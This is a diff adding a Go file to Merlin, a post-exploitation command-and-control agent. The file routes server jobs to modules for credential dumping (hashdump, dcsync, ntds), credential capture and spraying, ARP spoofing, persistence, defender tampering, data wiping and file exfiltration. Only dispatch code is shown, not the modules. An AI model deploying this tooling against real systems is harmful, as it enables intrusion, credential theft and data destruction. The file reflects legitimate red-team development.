@@ -0,0 +1,278 @@
+//go:build !core
+// +build !core
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"fmt"
+	"strings"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/commands"
+)
+
+// module executes a module job and returns its result. sent is true when the module sent its own job, such as a
+// file transfer, and there is no result to return
+func module(job jobs.Job) (result jobs.Results, sent bool) {
+	switch strings.ToLower(job.Payload.(jobs.Command).Command) {
+	case "activity":
+		result = commands.Activity(job.Payload.(jobs.Command), reporter(job))
+	case "ads":
+		result = commands.ADS(job.Payload.(jobs.Command))
+	case "arpspoof":
+		result = commands.ArpSpoof(job.Payload.(jobs.Command))
+	case "askcreds":
+		result = commands.AskCreds(job.Payload.(jobs.Command))
+	case "authcontext":
+		var structured commands.Structured
+		result, structured = commands.AuthContext(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "cache":
+		result = commands.Cache(job.Payload.(jobs.Command))
+	case "clr":
+		result = commands.CLR(job.Payload.(jobs.Command))
+	case "cloud":
+		var structured commands.Structured
+		result, structured = commands.Cloud(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "container":
+		var structured commands.Structured
+		result, structured = commands.Container(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "crawl":
+		var structured commands.Structured
+		result, structured = commands.Crawl(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "createprocess":
+		result = commands.CreateProcess(job.Payload.(jobs.Command))
+	case "dcsync":
+		var structured commands.Structured
+		result, structured = commands.DCSync(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "defender":
+		var structured commands.Structured
+		result, structured = commands.Defender(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "disk":
+		var transfer *jobs.FileTransfer
+		result, transfer = commands.Disk(job.Payload.(jobs.Command))
+		sendTransfer(job, transfer)
+	case "drip":
+		var held bool
+		if result, held = commands.Drip(job.Payload.(jobs.Command), fileSender(job), reporter(job)); held {
+			// The job is answered with a chunk, or an error, on a later check-in
+			return result, true
+		}
+	case "escape":
+		var structured commands.Structured
+		result, structured = commands.Escape(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "eventlog":
+		var structured commands.Structured
+		result, structured = commands.EventLog(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "firewall":
+		var structured commands.Structured
+		result, structured = commands.Firewall(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "gpo":
+		var structured commands.Structured
+		result, structured = commands.GPO(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "hashdump":
+		var structured commands.Structured
+		result, structured = commands.Hashdump(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "handles":
+		var structured commands.Structured
+		result, structured = commands.Handles(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "history":
+		var structured commands.Structured
+		result, structured = commands.History(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "hosts":
+		result = commands.Hosts(job.Payload.(jobs.Command))
+	case "kerberos":
+		var structured commands.Structured
+		result, structured = commands.Kerberos(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "kubernetes":
+		var structured commands.Structured
+		result, structured = commands.Kubernetes(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "logonmon":
+		result = commands.Logonmon(job.Payload.(jobs.Command), reporter(job))
+	case "macos":
+		var structured commands.Structured
+		result, structured = commands.MacOS(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "mail":
+		var structured commands.Structured
+		result, structured = commands.Mail(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "memfd":
+		result = commands.Memfd(job.Payload.(jobs.Command))
+	case "memory":
+		result = commands.Memory(job.Payload.(jobs.Command))
+	case "minidump":
+		ft, err := commands.MiniDump(job.Payload.(jobs.Command))
+		if err != nil {
+			result.Stderr = err.Error()
+		}
+		jobsOut <- jobs.Job{
+			AgentID: job.AgentID,
+			ID:      job.ID,
+			Token:   job.Token,
+			Type:    jobs.FILETRANSFER,
+			Payload: ft,
+		}
+	case "modules":
+		var structured commands.Structured
+		result, structured = commands.Modules(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "mssql":
+		var structured commands.Structured
+		result, structured = commands.MSSQL(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "netstat":
+		var structured commands.Structured
+		result, structured = commands.Netstat(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "rdp":
+		result = commands.RDP(job.Payload.(jobs.Command))
+	case "responder":
+		var structured commands.Structured
+		result, structured = commands.Responder(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "roast":
+		var structured commands.Structured
+		result, structured = commands.Roast(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "runas":
+		result = commands.RunAs(job.Payload.(jobs.Command))
+	case "sccm":
+		var structured commands.Structured
+		result, structured = commands.SCCM(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "screenshot":
+		var transfer *jobs.FileTransfer
+		result, transfer = commands.Screenshot(job.Payload.(jobs.Command), reporter(job))
+		sendTransfer(job, transfer)
+	case "ntlmcapture":
+		var structured commands.Structured
+		result, structured = commands.NTLMCapture(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "ntds":
+		result = commands.NTDS(job.Payload.(jobs.Command))
+	case "pcap":
+		var transfer *jobs.FileTransfer
+		result, transfer = commands.Pcap(job.Payload.(jobs.Command))
+		sendTransfer(job, transfer)
+	case "persistence":
+		result = commands.Persistence(job.Payload.(jobs.Command))
+	case "pipes":
+		result = commands.Pipes()
+	case "procmon":
+		result = commands.Procmon(job.Payload.(jobs.Command), reporter(job))
+	case "ps":
+		var structured commands.Structured
+		result, structured = commands.PS()
+		sendStructured(job, structured)
+	case "procdump":
+		var transfer *jobs.FileTransfer
+		result, transfer = commands.ProcDump(job.Payload.(jobs.Command))
+		sendTransfer(job, transfer)
+	case "ptree":
+		var structured commands.Structured
+		result, structured = commands.PTree(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "ssh":
+		result = commands.SSH(job.Payload.(jobs.Command))
+	case "shadow":
+		var structured commands.Structured
+		result, structured = commands.Shadow(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "shares":
+		var structured commands.Structured
+		result, structured = commands.Shares(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "snmp":
+		var structured commands.Structured
+		result, structured = commands.SNMP(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "spray":
+		var structured commands.Structured
+		result, structured = commands.Spray(job.Payload.(jobs.Command), reporter(job))
+		sendStructured(job, structured)
+	case "sshgraph":
+		var structured commands.Structured
+		var transfer *jobs.FileTransfer
+		result, structured, transfer = commands.SSHGraph(job.Payload.(jobs.Command))
+		sendTransfer(job, transfer)
+		sendStructured(job, structured)
+	case "sshkeys":
+		var structured commands.Structured
+		result, structured = commands.SSHKeys(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "sshsweep":
+		var structured commands.Structured
+		result, structured = commands.SSHSweep(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "staging":
+		return stagingModule(job)
+	case "transfer":
+		var structured commands.Structured
+		result, structured = commands.Transfer(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	case "uptime":
+		result = commands.Uptime()
+	case "timezone":
+		result = commands.Timezone(job.Payload.(jobs.Command))
+	case "token":
+		result = commands.Token(job.Payload.(jobs.Command))
+	case "watch":
+		result = commands.Watch(job.Payload.(jobs.Command), reporter(job))
+	case "wipe":
+		result = commands.Wipe(job.Payload.(jobs.Command))
+	default:
+		result.Stderr = fmt.Sprintf("unknown module command: %s", job.Payload.(jobs.Command).Command)
+	}
+	return
+}
+
+// sendTransfer returns the file transfer, if any, as the job's file transfer. It must be the first message for the job
+// because the server completes the job when it receives it and only accepts results after that
+func sendTransfer(job jobs.Job, transfer *jobs.FileTransfer) {
+	if transfer == nil {
+		return
+	}
+	jobsOut <- jobs.Job{
+		AgentID: job.AgentID,
+		ID:      job.ID,
+		Token:   job.Token,
+		Type:    jobs.FILETRANSFER,
+		Payload: *transfer,
+	}
+}